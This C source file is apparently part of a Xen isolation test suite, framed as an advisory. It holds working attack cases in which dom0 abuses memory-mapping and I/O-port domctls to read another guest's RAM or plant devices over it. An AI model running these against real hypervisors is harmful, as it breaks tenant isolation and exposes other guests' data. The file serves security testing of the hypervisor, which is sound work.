/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's RAM as a device's registers, and the other way round
 *
 * Claim:  dom0 reads a guest's page by calling its machine frame a device's,
 *         in its own map (PVH) or in that of a helper of its own; and puts a
 *         device, or another frame, in the place of a guest's page.
 * Method: XEN_DOMCTL_iomem_permission and XEN_DOMCTL_memory_mapping; the frame
 *         from Xen's table of machine frames, which dom0 may read.  The helper
 *         gets it before it runs.
 * Stock:  no one asks whether a frame of RAM is a device's, nor whose it is.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../attack.h"

#define CANDIDATES 16
#define WINDOW (64ul << 30) /* guest address: nothing is there */
#define VGA_FRAME 0xb8

static unsigned long look_at_window(void)
{
    int mem = open("/dev/mem", O_RDONLY | O_SYNC);
    void *page = mem < 0
                     ? MAP_FAILED
                     : mmap(NULL, PAGE, PROT_READ, MAP_SHARED, mem, WINDOW);
    unsigned long found = page == MAP_FAILED ? 0 : markers_in(page, PAGE);

    if ( page != MAP_FAILED )
        munmap(page, PAGE);
    close(mem);
    return found;
}

static enum verdict mmio_ram_own(struct victim *v)
{
    unsigned long mfn[CANDIDATES], found = 0;
    unsigned int i, mapped = 0, n = frames_of_lines(mfn, CANDIDATES);

    for ( i = 0; i < n && !found; i++ )
    {
        if ( xc_domain_iomem_permission(xch, 0, mfn[i], 1, 1) ||
             xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, mfn[i], 1, 1) )
            continue;
        mapped++;
        found = look_at_window();
        xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, mfn[i], 1, 0);
    }
    return verdict(found ? SUCCESS : FAILURE,
                   "%lu markers, %u of %u frames mapped, d%u", found, mapped,
                   n, v->id);
}
ATTACK(mmio_ram_own, .needs = SHARED, .frames = true, .pvh_only = true);

/* The helper looks at a frame beyond its RAM, again and again. */
#define HELPER_GFN (VICTIM_SHARED / PAGE + 32)

/* 0, or -errno: that of the mapping itself, which libxc's undoing loses. */
static long map_in_helper(struct victim *helper, unsigned long mfn)
{
    struct xen_domctl op = {
        .u.memory_mapping =
            {
                .first_gfn = HELPER_GFN,
                .first_mfn = mfn,
                .nr_mfns = 1,
                .add_mapping = 1,
            },
    };

    if ( xc_domain_iomem_permission(xch, helper->id, mfn, 1, 1) )
        return -EACCES;
    return domctl(helper->id, XEN_DOMCTL_memory_mapping, &op);
}

/*
 * The helper has not run yet when it gets the frame: a Xen that hides all
 * guests gives one that runs no device at all, and nobody would be asked
 * whose the frame is.  *RC: what the call for the frame gives.
 */
static bool helper_sees(unsigned long mfn, long *rc)
{
    struct victim helper;
    char extra[32];
    bool seen;

    snprintf(extra, sizeof(extra), "peek=%lu", HELPER_GFN * PAGE);
    *rc = -ENOENT;
    if ( victim_create(&helper, extra) )
        return false;
    *rc = map_in_helper(&helper, mfn);
    seen = !*rc && victim_runs(&helper) && victim_says(&helper, "peek ", 5) &&
           victim_says(&helper, "peek 64", 1);
    xc_domain_memory_mapping(xch, helper.id, HELPER_GFN, mfn, 1, 0);
    victim_destroy(&helper);
    return seen;
}

static enum verdict mmio_ram_helper(struct victim *v)
{
    unsigned long mfn[CANDIDATES];
    unsigned int i, n = frames_of_lines(mfn, CANDIDATES), mapped = 0;
    long rc;

    for ( i = 0; i < n; i++ )
    {
        if ( helper_sees(mfn[i], &rc) )
            return verdict(SUCCESS, "a helper sees the page of d%u", v->id);
        mapped += !rc;
        if ( rc && rc != -EPERM )
            return verdict(ERROR, "frame %#lx: not even refused: %ld", mfn[i],
                           rc);
    }
    return verdict(FAILURE, "%u of %u frames mapped by a helper", mapped, n);
}
ATTACK(mmio_ram_helper, .needs = SHARED, .frames = true, .seconds = 120);

static enum verdict mmio_over_ram(struct victim *v)
{
    if ( xc_domain_iomem_permission(xch, v->id, VGA_FRAME, 1, 1) ||
         xc_domain_memory_mapping(xch, v->id, LINES_GFN, VGA_FRAME, 1, 1) )
        return verdict(FAILURE, "refused");
    return victim_complains(v, "BAD");
}
ATTACK(mmio_over_ram, .needs = SHARED);

/* Where the guest expects nothing, dom0 puts a device of its own. */
static enum verdict mmio_into_hole(struct victim *v)
{
    int rc;

    /* Not while the guest looks there: Xen crashes it if its fault finds a
     * mapping that has come meanwhile. */
    xc_domain_pause(xch, v->id);
    rc = xc_domain_iomem_permission(xch, v->id, VGA_FRAME, 1, 1) ||
         xc_domain_memory_mapping(xch, v->id, VICTIM_MMIO / PAGE, VGA_FRAME, 1,
                                  1);
    xc_domain_unpause(xch, v->id);
    if ( rc )
        return verdict(FAILURE, "refused");
    return victim_complains(v, "MMIO");
}
ATTACK(mmio_into_hole, .needs = SHARED);

/* The same with I/O ports: those of the keyboard controller. */
static enum verdict ioport_mapping(struct victim *v)
{
    struct xen_domctl op = {
        .u.ioport_mapping =
            {
                .first_gport = VICTIM_PORT,
                .first_mport = 0x71,
                .nr_ports = 1,
                .add_mapping = 1,
            },
    };
    unsigned int ports[] = {0x92, 0x61, 0x64, 0x60, 0x71}, i;
    enum verdict seen = FAILURE;
    long rc = 0;

    for ( i = 0; i < 5 && seen != SUCCESS; i++ )
    {
        op.u.ioport_mapping.first_mport = ports[i];
        rc = domctl(v->id, XEN_DOMCTL_ioport_mapping, &op);
        if ( !rc )
            seen = victim_complains(v, "PORT");
    }
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return seen;
}
ATTACK(ioport_mapping, .needs = SHARED);
